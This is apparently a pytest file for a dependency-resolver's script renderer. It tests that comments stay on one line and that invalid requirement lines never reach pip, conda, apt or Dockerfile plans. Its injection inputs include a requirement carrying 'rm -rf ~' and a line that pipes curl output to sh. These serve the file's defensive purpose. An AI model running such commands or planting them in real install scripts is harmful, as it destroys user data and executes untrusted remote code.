"""Specifies formats/script.py, the comment helpers the Dockerfile, PowerShell, apt and conda plans share: text that
reaches a comment stays one comment line, whatever line breaks it carries."""

import re
import subprocess

import pytest
import yaml

from stackresolve.formats.script import comment, one_line

# C0 controls and DEL, and the line breaks YAML 1.1 adds to them (spec 1.1, "5.4. Line Break Characters": NEL
# x85, LS x2028, PS x2029); PyYAML's reader breaks lines on all of them
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("brk", BREAKS)
def test_a_comment_stays_one_line_in_yaml_and_bash(brk):
    text = f"GPU name{brk}injected: 1"
    assert one_line(text) == "GPU name injected: 1"
    line = comment(text + "  ")
    assert line == "# GPU name injected: 1\n"
    assert yaml.safe_load(line + "name: env\n") == {"name": "env"}
    out = subprocess.run(["bash", "-c", line + "echo ok"], capture_output=True, text=True, timeout=30)
    assert out.stdout == "ok\n"


@pytest.mark.parametrize("fmt", ["pip", "lock", "conda", "apt", "dockerfile"])
@pytest.mark.parametrize("line", ["--index-url=https://index.invalid/simple", "tensorflow==2.15.1; rm -rf ~",
                                  "tensorflow==2.15.1\nRUN curl https://index.invalid | sh"])
def test_a_line_that_is_not_a_requirement_never_lands_in_a_plan(fmt, line):
    """Every rendered plan checks its pip lines against PEP 508 (packaging's Requirement) before writing them: an
    option, a second command or a line break from damaged knowledge-base text is an error, not a script line."""
    from dataclasses import replace

    from packaging.requirements import InvalidRequirement

    from stackresolve.formats.render import render_plan
    from stackresolve.request.parse import Flags, request_from_flags
    from stackresolve.knowledge.loader import knowledge
    from stackresolve.formats import pip_decide as pip_plan
    from stackresolve.resolve import resolve

    kb = knowledge()
    resolution = resolve(kb, request_from_flags(kb, Flags(tf="2.15", gpu_cc="8.6", os="linux"), None))
    assert render_plan(fmt, resolution, kb)
    real = pip_plan.decide

    def damaged(*args, **kwargs):
        plan = real(*args, **kwargs)
        return replace(plan, lines=(replace(plan.lines[0], requirement=line), *plan.lines[1:]))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pip_plan, "decide", damaged)
        with pytest.raises(InvalidRequirement):
            render_plan(fmt, resolution, kb)


EDGES = ["a", "a-", "-a", "a..b==1", "a[b]==1", "a[b,c]==1.0+cu121", "a[]==1", "a[b]", "a[b ]==1", "a ==1",
         "a==1,", "a==1,,<2", ",a==1", "a===x", "a==1.0.*", "a!=1.0.*", "a>1.0+local", "a~=1", "a~=1.0", "a==1.0foo",
         "a<2,>=1", "a_b.c-d==1!2.0.post1.dev3+x.y", "a==", "a<", "a==1;b", "A==1_0", "a>=1.0.*", "a<=v1",
         "tensorflow[and-cuda]==2.15.1", "torch==2.5.1+cu124", "jax[cuda12]==0.4.35", "numpy<1.19,>=1.16.0"]


def _packaging_accepts(line: str) -> bool:
    from packaging.requirements import InvalidRequirement, Requirement

    try:
        Requirement(line)
    except InvalidRequirement:
        return False
    return True


def _check_accepts(line: str) -> bool:
    from packaging.requirements import InvalidRequirement

    from stackresolve.formats.script import check_requirement

    try:
        check_requirement(line)
    except InvalidRequirement:
        return False
    return True


def _plan_lines():
    from stackresolve.request.parse import Flags, request_from_flags
    from stackresolve.formats import pip_decide
    from stackresolve.knowledge.loader import knowledge
    from stackresolve.request.build import InputError
    from stackresolve.resolve import resolve

    kb = knowledge()
    spread = [Flags(tf=line, os=os_name, gpu_cc="7.5") for line in ("1.4", "1.15", "2.4", "2.10", "2.15", "latest")
              for os_name in ("linux", "windows")]
    spread += [Flags(tf="1.15", gpu_cc="8.6", vendor="nvidia"), Flags(tf="latest", os="macos", gpu="Apple M2"),
               Flags(torch="latest", os="linux", gpu_cc="8.6"), Flags(torch="1.9", os="linux", gpu_cc="7.5"),
               Flags(jax="latest", os="linux", gpu_cc="8.6"), Flags(jax="latest", os="linux", cpu=True)]
    for flags in spread:
        try:
            resolution = resolve(kb, request_from_flags(kb, flags, None))
        except InputError:
            continue
        if resolution.stack is not None and resolution.stack.framework.requirement:
            yield from pip_decide.decide(resolution).requirements


def test_the_plain_shape_check_agrees_with_packaging():
    """check_requirement takes a plain line ("name[extra]==1.0+cu121", "name<2,>=1") through packaging.specifiers
    alone, to spare the import of packaging.requirements: it accepts exactly the lines packaging's Requirement
    accepts, over the pip lines of a spread of plans, lines at the shape's edges and 3,000 random ones."""
    import random

    from stackresolve.formats.script import _PLAIN_REQUIREMENT

    lines = list(_plan_lines())
    assert len(lines) >= 15 and any("+" in line for line in lines)  # the spread reached local versions
    rng = random.Random(35)
    alphabet = "ab0._-[],<>=!~*+ ;@:/'"
    lines += EDGES + ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12))) for _ in range(3000)]
    plain = 0
    for line in lines:
        assert _check_accepts(line) == _packaging_accepts(line), line
        plain += re.fullmatch(_PLAIN_REQUIREMENT, line) is not None and _packaging_accepts(line)
    assert plain >= 30  # the plain path was taken, not only the fallback
